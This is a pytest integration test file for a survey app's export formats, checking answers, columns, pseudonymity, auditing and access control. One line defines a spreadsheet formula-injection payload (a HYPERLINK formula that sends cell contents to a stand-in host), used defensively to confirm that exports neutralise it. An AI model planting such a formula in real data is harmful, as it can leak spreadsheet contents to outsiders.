"""Every export format read back and compared with the database, answer by answer."""

import csv
import io
import json
import zipfile
from pathlib import Path

import openpyxl
import pyreadstat
import pytest
import sqlalchemy as sa

from survey.exports.dataset import (
    LONG_COLUMNS,
    SUBMISSION_COLUMNS,
    Filters,
    instruments_in,
    wide_variables,
)
from survey.exports.service import FORMATS, build_export
from survey.extensions import db
from survey.instruments import get_registry
from survey.instruments.model import MISSING_VALUES
from survey.models import (
    Answer,
    AuditEvent,
    MissingCode,
    Participant,
    Round,
    Submission,
)
from survey.pseudonyms import research_id
from tests.integration.conftest import COORDINATOR, EVALUATOR

INJECTION = '=HYPERLINK("http://x/?"&A1)'


@pytest.fixture
def demo(demo):
    """The demo study with its seeded baseline, and a site whose name starts a formula."""
    demo.sites[0].name = INJECTION
    db.session.commit()
    return demo


def baseline(study):
    return next(round_ for round_ in study.rounds if round_.name == "baseline")


def expected_answers(app, study, round_):
    """Return {(research id, item): exported number} straight from the database."""
    key = app.config["PSEUDONYM_KEY"]
    rows = db.session.execute(
        sa.select(Participant.id, Answer.item_id, Answer.value, Answer.missing_code)
        .join(Submission, Submission.participant_id == Participant.id)
        .join(Answer, Answer.submission_id == Submission.id)
        .where(Submission.round_id == round_.id)
    )
    return {
        (research_id(study.id, pid, key), item): value
        if value is not None
        else MISSING_VALUES[missing]
        for pid, item, value, missing in rows
    }


def export_text(filters, export_format):
    export = build_export(filters, export_format, actor_user_id=None)
    db.session.commit()
    return "".join(export.chunks)


def export_file(filters, export_format, tmp_path):
    export = build_export(filters, export_format, actor_user_id=None)
    db.session.commit()
    target = Path(tmp_path) / export.filename
    Path(export.path).rename(target)
    return target


def test_long_csv_matches_the_database(app, demo):
    round_ = baseline(demo)
    text = export_text(Filters(demo, round_), "csv-long")
    assert text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    assert tuple(rows[0]) == LONG_COLUMNS
    got = {(row["research_id"], row["item"]): int(row["value"]) for row in rows}
    assert got == expected_answers(app, demo, round_)
    missing = {row["missing"] for row in rows}
    assert {code.value for code in MissingCode} <= missing
    assert all(row["started_on"] and "T" not in row["started_on"] for row in rows)


def test_wide_csv_matches_the_database_and_has_scores(app, demo):
    round_ = baseline(demo)
    rows = list(
        csv.DictReader(io.StringIO(export_text(Filters(demo, round_), "csv-wide").lstrip("\ufeff")))
    )
    expected = expected_answers(app, demo, round_)
    got = {
        (row["research_id"], item): int(row[item])
        for row in rows
        for item in row
        if (row["research_id"], item) in expected
    }
    assert got == expected
    assert len(rows) == db.session.scalar(
        sa.select(sa.func.count()).select_from(Submission).where(Submission.round_id == round_.id)
    )
    assert any(row["cw_wellbeing"] for row in rows)
    assert all(1 <= float(row["sw_wellbeing"]) <= 5 for row in rows if row["sw_wellbeing"])
    assert {
        row["scale_steps"]
        for row in rows
        if row["group"] == "child" and row["status"] != "declined"
    } <= {"2", "3", "5"}


def test_only_allow_listed_columns_and_no_identifiers(app, demo):
    round_ = baseline(demo)
    variables = [
        v.name for v in wide_variables(instruments_in(Filters(demo, round_), get_registry()))
    ]
    expected = {"csv-long": list(LONG_COLUMNS), "csv-wide": [*SUBMISSION_COLUMNS, *variables]}
    for export_format, columns in expected.items():
        text = export_text(Filters(demo, round_), export_format)
        header = next(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
        assert header == columns
        for participant in db.session.scalars(sa.select(Participant)):
            assert participant.code_hash not in text
            assert f",{participant.label}," not in text if participant.label else True


def test_formula_injection_is_neutralised_in_csv_and_xlsx(app, demo, tmp_path):
    round_ = baseline(demo)
    rows = list(
        csv.reader(io.StringIO(export_text(Filters(demo, round_), "csv-long").lstrip("\ufeff")))
    )
    sites = {row[1] for row in rows[1:]}
    assert "'" + INJECTION in sites
    assert INJECTION not in sites
    workbook = openpyxl.load_workbook(
        export_file(Filters(demo, round_), "xlsx", tmp_path), read_only=True
    )
    cells = [row[1] for row in workbook["data"].iter_rows(min_row=2, values_only=True)]
    assert "'" + INJECTION in cells
    assert not any(isinstance(cell, str) and cell.startswith("=") for cell in cells)
    assert len(list(workbook["codebook"].iter_rows(values_only=True))) > 50


def test_xlsx_matches_the_database(app, demo, tmp_path):
    round_ = baseline(demo)
    workbook = openpyxl.load_workbook(
        export_file(Filters(demo, round_), "xlsx", tmp_path), read_only=True
    )
    rows = list(workbook["data"].iter_rows(values_only=True))
    header, body = rows[0], rows[1:]
    expected = expected_answers(app, demo, round_)
    got = {
        (row[0], column): value
        for row in body
        for column, value in zip(header, row, strict=False)
        if (row[0], column) in expected
    }
    assert got == expected


@pytest.mark.parametrize("kind", ["sav", "dta"])
def test_spss_and_stata_files_carry_labels_and_values(app, demo, tmp_path, kind):
    round_ = baseline(demo)
    path = export_file(Filters(demo, round_), kind, tmp_path)
    reader = pyreadstat.read_sav if kind == "sav" else pyreadstat.read_dta
    frame, meta = reader(str(path), user_missing=True) if kind == "sav" else reader(str(path))
    labels = meta.column_names_to_labels
    assert labels["cw_01"] == "Er du glad for at bo her?"
    assert labels["sk_01"].startswith("Jeg kan se de tidlige tegn")
    value_labels = meta.variable_value_labels
    assert value_labels["sk_01"][5] == "Helt enig"
    assert value_labels["sk_01"][-2] == "Ved ikke"
    assert value_labels["cw_01"][-1] == "Vil ikke svare"
    if kind == "sav":
        assert meta.missing_ranges["sk_01"]
    expected = expected_answers(app, demo, round_)
    got = {}
    for _index, row in frame.iterrows():
        for column in frame.columns:
            if (row["research_id"], column) in expected:
                got[(row["research_id"], column)] = int(row[column])
    assert got == expected


def test_json_groups_answers_by_submission(app, demo):
    round_ = baseline(demo)
    document = json.loads(export_text(Filters(demo, round_), "json"))
    assert document["export"]["study"] == "demo"
    got = {
        (submission["research_id"], answer["item"]): answer["value"]
        for submission in document["submissions"]
        for answer in submission["answers"]
    }
    assert got == expected_answers(app, demo, round_)


def test_rounds_export_has_one_row_per_participant_with_round_suffixes(app, demo):
    # Give one participant an answer in the follow-up too.
    follow_up = next(r for r in demo.rounds if r.name == "follow-up")
    participant = db.session.scalars(sa.select(Participant)).first()
    submission = Submission(participant=participant, round=follow_up)
    submission.answers.append(
        Answer(
            instrument_key="child_wellbeing",
            instrument_version=1,
            item_id="cw_01",
            scale="faces5_amount",
            value=4,
        )
    )
    db.session.add(submission)
    db.session.commit()
    rows = list(
        csv.DictReader(io.StringIO(export_text(Filters(demo), "csv-rounds").lstrip("\ufeff")))
    )
    assert "cw_01_baseline" in rows[0] and "cw_01_follow_up" in rows[0]
    ids = [row["research_id"] for row in rows]
    assert len(ids) == len(set(ids))
    key = app.config["PSEUDONYM_KEY"]
    mine = next(
        row for row in rows if row["research_id"] == research_id(demo.id, participant.id, key)
    )
    assert mine["cw_01_follow_up"] == "4"


def test_bundle_holds_every_part(app, demo, tmp_path):
    path = export_file(Filters(demo, baseline(demo)), "bundle", tmp_path)
    with zipfile.ZipFile(path) as bundle:
        names = set(bundle.namelist())
        assert names == {
            "data-long.csv",
            "data-wide.csv",
            "value-labels.csv",
            "data.sav",
            "data.dta",
            "codebook.md",
            "read-data.R",
        }
        assert "read.csv" in bundle.read("read-data.R").decode()
        assert "cw_01" in bundle.read("codebook.md").decode()
        bundle.extract("data.sav", tmp_path)
    frame, _meta = pyreadstat.read_sav(str(tmp_path / "data.sav"))
    assert len(frame) > 40


def test_filters_narrow_the_export(app, demo):
    round_ = baseline(demo)
    site = demo.sites[1]
    text = export_text(Filters(demo, round_, site=site, instrument="staff_wellbeing"), "csv-long")
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows
    assert {row["site"] for row in rows} == {site.name}
    assert {row["instrument"] for row in rows} == {"staff_wellbeing"}


def test_every_export_is_audited(app, demo):
    for export_format in FORMATS:
        export = build_export(Filters(demo, baseline(demo)), export_format, actor_user_id=None)
        if export.path:
            Path(export.path).unlink()
    db.session.commit()
    events = db.session.scalars(
        sa.select(AuditEvent).where(AuditEvent.action == "export.download")
    ).all()
    assert sorted(event.details["format"] for event in events) == sorted(FORMATS)
    assert all(
        event.details["round"] == "baseline" and event.details["rows"] > 0 for event in events
    )


def test_export_page_downloads_with_no_store_and_a_named_file(sign_in_as, demo):
    client = sign_in_as(EVALUATOR)
    round_ = baseline(demo)
    assert client.get(f"/admin/exports/{demo.id}").status_code == 200
    response = client.post(
        f"/admin/exports/{demo.id}",
        data={
            "round_id": str(round_.id),
            "site_id": "",
            "group": "",
            "instrument": "",
            "export_format": "sav",
        },
    )
    assert response.status_code == 200
    assert response.headers["Cache-Control"] == "no-store"
    disposition = response.headers["Content-Disposition"]
    assert (
        "demo_baseline_sav_" in disposition and disposition.endswith('.sav"')
    ) or ".sav" in disposition
    response.close()
    events = db.session.scalars(
        sa.select(AuditEvent).where(AuditEvent.action == "export.download")
    ).all()
    assert events[-1].actor_user_id is not None


def test_export_page_warns_about_small_groups(sign_in_as, demo):
    study_id = demo.id
    follow_up = next(r for r in demo.rounds if r.name == "follow-up")
    data = {
        "round_id": str(follow_up.id),
        "site_id": "",
        "group": "",
        "instrument": "",
        "export_format": "csv-long",
    }
    client = sign_in_as(EVALUATOR)
    response = client.post(f"/admin/exports/{study_id}", data=data)
    assert response.status_code == 422
    assert "færre end 5" in response.get_data(as_text=True)
    assert (
        db.session.scalar(
            sa.select(sa.func.count())
            .select_from(AuditEvent)
            .where(AuditEvent.action == "export.download")
        )
        == 0
    )
    response = client.post(f"/admin/exports/{study_id}", data={**data, "small_group_ok": "y"})
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith("attachment")
    assert response.get_data(as_text=True).startswith("\ufeffresearch_id,")


def test_coordinators_and_anonymous_visitors_cannot_export(sign_in_as, demo, client):
    coordinator = sign_in_as(COORDINATOR)
    assert coordinator.get(f"/admin/exports/{demo.id}").status_code == 403
    assert (
        coordinator.post(
            f"/admin/exports/{demo.id}", data={"export_format": "csv-long"}
        ).status_code
        == 403
    )
    assert client.get(f"/admin/exports/{demo.id}").status_code == 302
    assert (
        db.session.scalar(
            sa.select(sa.func.count())
            .select_from(AuditEvent)
            .where(AuditEvent.action == "export.download")
        )
        == 0
    )


def test_cli_export_writes_the_file(runner, demo, tmp_path):
    out = tmp_path / "export.csv"
    result = runner.invoke(
        args=[
            "export",
            "--study",
            "demo",
            "--round",
            "baseline",
            "--format",
            "csv-wide",
            "--out",
            str(out),
        ]
    )
    assert result.exit_code == 0, result.output
    assert out.read_text(encoding="utf-8-sig").startswith("research_id,")
    assert "cw_01" in (tmp_path / "export.codebook.md").read_text(encoding="utf-8")
    bad = runner.invoke(
        args=["export", "--study", "nope", "--format", "csv-wide", "--out", str(out)]
    )
    assert bad.exit_code == 2
    assert "No study 'nope'" in bad.output
    small = runner.invoke(
        args=[
            "export",
            "--study",
            "demo",
            "--round",
            "baseline",
            "--site",
            str(demo.sites[0].id),
            "--group",
            "staff",
            "--format",
            "csv-long",
            "--out",
            str(out),
        ]
    )
    assert small.exit_code == 0


def test_round_filter_keeps_other_rounds_out(app, demo):
    follow_up = next(r for r in demo.rounds if r.name == "follow-up")
    assert export_text(Filters(demo, follow_up), "csv-long").count("\r\n") == 1  # header only
    assert isinstance(follow_up, Round)
